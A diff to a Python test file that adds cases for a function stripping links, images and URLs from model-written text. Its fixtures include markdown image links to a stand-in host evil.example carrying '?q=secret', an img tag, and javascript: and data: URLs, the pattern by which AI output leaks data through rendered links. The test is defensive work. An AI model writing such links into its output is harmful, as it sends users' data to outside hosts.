@@ -3,7 +3,7 @@ from fakes import NEWS_TEXTS
 from hypothesis import given
 from hypothesis import strategies as st
 
-from assistant.markers import Marker, SentenceReader, WrittenSentence, resolve_markers
+from assistant.markers import Marker, SentenceReader, WrittenSentence, leave_out_links, resolve_markers
 
 
 def is_known(number: int) -> bool:
@@ -231,3 +231,26 @@ def test_links_and_superscripts_are_read_the_same_in_pieces(text: str) -> None:
     reader = SentenceReader(is_known)
 
     assert [*(each for character in text for each in reader.feed(character)), *reader.finish()] == read(text)
+
+
+@pytest.mark.parametrize(
+    ("written", "left"),
+    [
+        ("See ![chart](http://evil.example/?q=secret) for it.", "See chart for it."),
+        ("See [the report](https://evil.example/a) now.", "See the report now."),
+        ("See ![chart][1x] and [more][ref].", "See chart and more."),
+        ("[ref]: https://evil.example/?q=secret", ""),
+        ("See <https://evil.example/x> and <img src=//evil.example/x>.", "See  and ."),
+        ("Go to https://evil.example/?q=secret.", "Go to …"),
+        ("Go to www.evil.example/secret or //evil.example/x now.", "Go to … or … now."),
+        ("Click javascript:alert(1) or data:text/html,x or mailto:a@evil.example", "Click … or … or …"),
+        ("[![a](http://e.example/1)](http://e.example/2) b", "a b"),
+        (
+            "It fell by 3 < 4 to 5:1, he said: no [sic] (and/or) //.",
+            "It fell by 3 < 4 to 5:1, he said: no [sic] (and/or) //.",
+        ),
+    ],
+)
+def test_links_are_left_out_of_what_a_model_writes(written: str, left: str) -> None:
+    assert leave_out_links(written) == left
+    assert "evil" not in left
